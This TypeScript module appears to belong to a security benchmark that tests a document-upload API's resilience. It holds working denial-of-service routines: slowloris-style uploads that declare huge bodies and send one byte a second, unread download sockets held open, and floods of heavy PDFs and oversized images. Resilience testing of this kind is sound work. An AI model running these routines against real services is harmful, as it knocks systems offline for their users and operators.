/** Attacks with documents: on uploads, downloads and inspection. */
import type net from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { type FilledCase, tokenOf } from '../../bench/case.ts'
import { heavyPdf, hugePicture } from './hostile-files.ts'
import {
  agent,
  bearer,
  creation,
  crowd,
  newApplication,
  openSocket,
  type Result,
  send,
  type Target,
} from './requests.ts'

export async function uploaded({ url, client }: Target, bytes: Buffer): Promise<string> {
  const token = await tokenOf(url, client)
  const json = async (operation: string, body: object) => {
    const reply = await fetch(`${url}/v1/${operation}`, {
      method: 'POST',
      headers: bearer(token),
      body: JSON.stringify(body),
    })
    return (await reply.json()) as { id: string; data: Array<{ downloadURL: string }> }
  }
  const { id } = await json('applications.create', creation(client))
  const upload = {
    applicationId: id,
    name: 'large.pdf',
    type: 'OTHER',
    contentBase64: bytes.toString('base64'),
  }
  await json('applications.documents.upload', upload)
  const { data } = await json('applications.documents.list', { applicationId: id })
  const [document] = data
  if (!document) throw new Error('The document was not taken.')
  return document.downloadURL
}

export async function unreadDownloads({ url }: Target, until: number, address: string): Promise<Result> {
  const { host, pathname } = new URL(address)
  let cut = 0
  const sockets: net.Socket[] = []
  for (let at = 0; at < 100; at += 1) {
    const socket = await openSocket(url).catch(() => undefined)
    if (!socket) continue
    socket.on('close', () => {
      cut += 1
    })
    socket.write(`GET ${pathname} HTTP/1.1\r\nHost: ${host}\r\n\r\n`)
    socket.pause()
    sockets.push(socket)
  }
  while (performance.now() < until) await pause(200)
  // A socket that is not read does not notice its end: a write shows whether it is still open.
  for (const socket of sockets) socket.write('\r\n')
  await pause(500)
  for (const socket of sockets) socket.write('\r\n')
  await pause(500)
  const result = { sockets: sockets.length, cut }
  for (const socket of sockets) socket.destroy()
  return result
}

/** Bodies that are declared large and arrive one byte a second: by the API, and as forms of one applicant. */
export async function drippingUploads({ url, client, accomplices }: Target, until: number, form: FilledCase) {
  const tokens = await Promise.all([client, ...accomplices].map((each) => tokenOf(url, each)))
  const { host, origin } = new URL(url)
  const api = (token = '') =>
    `POST /v1/applications.documents.upload HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${token}\r\n` +
    'Content-Type: application/json\r\nContent-Length: 20000000\r\n\r\n{'
  const page = new URL(form.page.replace(/contact$/, 'documents')).pathname
  const applicant =
    `POST ${page} HTTP/1.1\r\nHost: ${host}\r\nOrigin: ${origin}\r\nCookie: ${form.cookie}\r\n` +
    'Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 60000000\r\n\r\n' +
    '--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF'
  const result: Result = { sockets: 0, ended: 0 }
  const hands = Array.from({ length: 24 }, async (_, at) => {
    while (performance.now() < until) {
      const socket = await openSocket(url).catch(() => undefined)
      result.sockets = (result.sockets ?? 0) + 1
      socket?.resume()
      socket?.write(at % 4 ? api(tokens[at % tokens.length]) : applicant)
      while (socket && !socket.destroyed && performance.now() < until) {
        socket.write('a')
        await pause(1_000)
      }
      if (socket?.destroyed) result.ended = (result.ended ?? 0) + 1
      socket?.destroy()
      await pause(100)
    }
  })
  await Promise.all(hands)
  return result
}

export async function hostileDocuments({ url, client }: Target, until: number): Promise<Result> {
  const token = await tokenOf(url, client)
  const by = agent(6)
  const files = [
    { name: 'heavy.pdf', type: 'OTHER', contentBase64: heavyPdf().toString('base64') },
    { name: 'huge.png', type: 'OTHER', contentBase64: hugePicture().toString('base64') },
  ]
  const ids: string[] = []
  const result = await crowd(6, until, async (hand) => {
    ids[hand] ??= await newApplication(url, client, token)
    const body = JSON.stringify({ applicationId: ids[hand], ...files[hand % 2] })
    const path = '/v1/applications.documents.upload'
    const status = await send(url, by, { path, headers: bearer(token), body })
    // The application already has the maximum number of documents.
    if (status === 409) delete ids[hand]
    return status
  })
  by.destroy()
  return result
}
